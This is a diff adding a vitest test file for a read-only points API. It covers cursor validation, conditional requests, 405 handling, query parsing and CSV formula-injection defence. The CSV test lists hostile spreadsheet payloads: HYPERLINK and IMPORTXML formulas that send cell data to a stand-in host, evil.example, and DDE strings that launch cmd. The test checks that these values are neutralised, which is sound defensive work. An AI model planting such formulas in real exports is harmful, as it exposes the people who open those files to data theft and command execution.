@@ -1,0 +1,143 @@
+import { parse } from 'csv-parse/sync'
+import { afterEach, describe, expect, it } from 'vitest'
+import { createCursorCodec } from '../../../functions/api/cursor.ts'
+import { PointRecordSchema } from '../../../shared/schemas/point.ts'
+import { samplePoint } from '../../support/sample-point.ts'
+import { createApiFixture, CURSOR_SECRET, REGISTRY_VERSION, snapshotOf } from './support/app-fixture.ts'
+
+/**
+ * Holes found by probing the read API (issue 8): each case here failed before its fix.
+ */
+const fixture = createApiFixture()
+const { records } = fixture
+afterEach(() => fixture.source.swap(fixture.snapshot))
+const someId = records.find((p) => p.status === 'active')!.id
+
+async function expectProblem(response: Response, status: number, field?: string): Promise<Record<string, any>> {
+  expect(response.status).toBe(status)
+  expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/)
+  const body = await response.json()
+  if (field) expect(body.errors.map((e: { field: string }) => e.field)).toContain(field)
+  return body
+}
+
+describe('cursors that are validly signed but out of range', () => {
+  const codec = createCursorCodec(CURSOR_SECRET)
+  const near = '41.9028,12.4964'
+  // The fingerprint a real walk carries: the parsed query without the cursor, as the route makes it.
+  const fingerprintOf = async (query: string): Promise<string> => {
+    const { next_cursor } = await fixture.getJson(`/v1/points?${query}`)
+    return codec.decode(next_cursor).q
+  }
+
+  it.each([
+    ['a negative offset', { offset: -5 }],
+    ['a fractional offset', { offset: 2.5 }],
+    ['an absurd offset', { offset: 1e15 }],
+    ['an offset that is not a number', { offset: 'ten' }],
+    ['an "after" that is not an id', { after: 42 }],
+  ])('answer 400 naming cursor for %s, never 500', async (_, position) => {
+    const query = `near=${near}&limit=5`
+    const q = await fingerprintOf(query)
+    const cursor = codec.encode({ v: REGISTRY_VERSION, q, ...(position as object) } as never)
+    await expectProblem(await fixture.get(`/v1/points?${query}&cursor=${encodeURIComponent(cursor)}`), 400, 'cursor')
+  })
+})
+
+describe('If-None-Match: *', () => {
+  it('gives 304 only where a representation exists', async () => {
+    expect((await fixture.get(`/v1/points/${someId}`, { headers: { 'If-None-Match': '*' } })).status).toBe(304)
+    await expectProblem(await fixture.get('/v1/points/demo-99-9999', { headers: { 'If-None-Match': '*' } }), 404)
+    await expectProblem(await fixture.get('/v1/points?limit=abc', { headers: { 'If-None-Match': '*' } }), 400, 'limit')
+    await expectProblem(await fixture.get('/v1/nothing-here', { headers: { 'If-None-Match': '*' } }), 404)
+  })
+})
+
+describe('methods the read API does not answer', () => {
+  const known = ['/v1/points', `/v1/points/${someId}`, '/v1/points.geojson', '/v1/points.csv', '/v1/places?q=roma', '/v1/regions', '/healthz', '/v1/openapi.json', '/v1/docs']
+  it.each(['POST', 'PUT', 'PATCH', 'DELETE'])('%s on an existing resource is a 405 problem with Allow', async (method) => {
+    for (const url of known) {
+      const response = await fixture.get(url, { method, body: method === 'DELETE' ? undefined : '{}', headers: { 'Content-Type': 'application/json' } })
+      await expectProblem(response, 405)
+      expect(response.headers.get('allow'), `${method} ${url}`).toBe('GET, HEAD, OPTIONS')
+    }
+  })
+
+  it('is still a 404 on a path that does not exist', async () => {
+    await expectProblem(await fixture.get('/v1/nothing-here', { method: 'POST', body: '{}' }), 404)
+  })
+})
+
+describe('numbers and text the query schema used to let through', () => {
+  it.each(['0x10', '1e1', '+5', ' 5', '5 ', '0b11', '5.0', '１０'])('rejects limit=%s', async (limit) => {
+    await expectProblem(await fixture.get(`/v1/points?limit=${encodeURIComponent(limit)}`), 400, 'limit')
+  })
+
+  it.each(['0x10', 'Infinity', ' 5', '1_0'])('rejects radius_km=%s', async (radius) => {
+    await expectProblem(await fixture.get(`/v1/points?near=41.9,12.5&radius_km=${encodeURIComponent(radius)}`), 400, 'radius_km')
+  })
+
+  it('still takes decimal radii and plain limits', async () => {
+    const page = await fixture.getJson('/v1/points?near=41.9,12.5&radius_km=2.5&limit=7')
+    expect(page.items.length).toBeLessThanOrEqual(7)
+    expect(page.items.every((p: { distance_m: number }) => p.distance_m <= 2500)).toBe(true)
+  })
+
+  it.each(['%', '%25', '***', ' - ', '.'])('rejects q=%s, which has no letter or digit to search for, instead of matching everything', async (q) => {
+    await expectProblem(await fixture.get(`/v1/points?q=${q}`), 400, 'q')
+  })
+})
+
+describe('spreadsheet formula injection in /v1/points.csv', () => {
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Clicca")',
+    '+IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+  ]
+  function evilRegistry() {
+    const evil = hostile.map((text, i) =>
+      PointRecordSchema.parse({
+        ...samplePoint(`evil-${i}`, {
+          name: text,
+          operator: { name: text, type: 'terzo_settore' },
+          address: { street: text, postcode: '50123' },
+          contacts: { phone: i === 0 ? '+39 055 1234567' : '-055 123', email: null, website: null },
+        }),
+        version: 1,
+        updated_at: '2026-11-01T10:00:00Z',
+      }),
+    )
+    return snapshotOf([...records, ...evil])
+  }
+
+  it('neutralises cells that a spreadsheet would run as formulas, and keeps phone numbers readable', async () => {
+    fixture.source.swap(evilRegistry())
+    const response = await fixture.get('/v1/points.csv?comune=048017')
+    expect(response.status).toBe(200)
+    const [header, ...rows] = parse(await response.text(), { bom: true, relax_quotes: true }) as string[][]
+    const col = (name: string) => header!.indexOf(name)
+    const evilRows = rows.filter((r) => r[col('point_id')]!.startsWith('evil-'))
+    expect(evilRows).toHaveLength(hostile.length)
+    for (const row of evilRows) {
+      for (const [i, cell] of row.entries()) if (i !== col('phone')) expect(cell, `${header![i]} ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
+      const original = hostile[Number(row[col('point_id')]!.slice('evil-'.length))]!
+      // Neutralised by one leading apostrophe, the OWASP way: the text itself is all there.
+      expect(row[col('name')]).toBe(`'${original}`)
+      expect(row[col('operator_name')]).toBe(`'${original}`)
+      expect(row[col('address_street')]).toBe(`'${original}`)
+    }
+    const phones = evilRows.map((r) => r[col('phone')])
+    expect(phones).toContain('+39 055 1234567')
+    expect(phones).toContain('-055 123')
+  })
+
+  it('quotes any cell holding a semicolon, so a spreadsheet reading ; as separator cannot start a new cell in it', async () => {
+    const tricky = PointRecordSchema.parse({ ...samplePoint('semi-1', { name: 'Biblioteca;=1+1' }), version: 1, updated_at: '2026-11-01T10:00:00Z' })
+    fixture.source.swap(snapshotOf([...records, tricky]))
+    const text = await (await fixture.get('/v1/points.csv?comune=048017&q=biblioteca')).text()
+    expect(text).toContain('"Biblioteca;=1+1"')
+  })
+})
